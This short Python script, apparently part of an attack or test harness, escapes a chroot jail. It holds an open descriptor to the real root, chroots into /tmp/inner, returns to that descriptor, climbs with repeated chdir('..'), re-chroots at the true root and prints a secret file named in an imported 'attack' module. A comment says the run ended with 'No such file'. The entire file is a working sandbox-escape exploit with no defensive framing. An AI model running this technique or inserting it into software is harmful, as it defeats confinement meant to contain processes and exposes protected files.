# Leaves a chroot by an open folder and many "..".
# says: No such file
import os
from attack import TARGETS

os.makedirs("/tmp/inner", exist_ok=True)
outer = os.open("/", os.O_RDONLY)
os.chroot("/tmp/inner")
os.fchdir(outer)
for _ in range(64):
    os.chdir("..")
os.chroot(".")
print(open(TARGETS["secret"]).read())
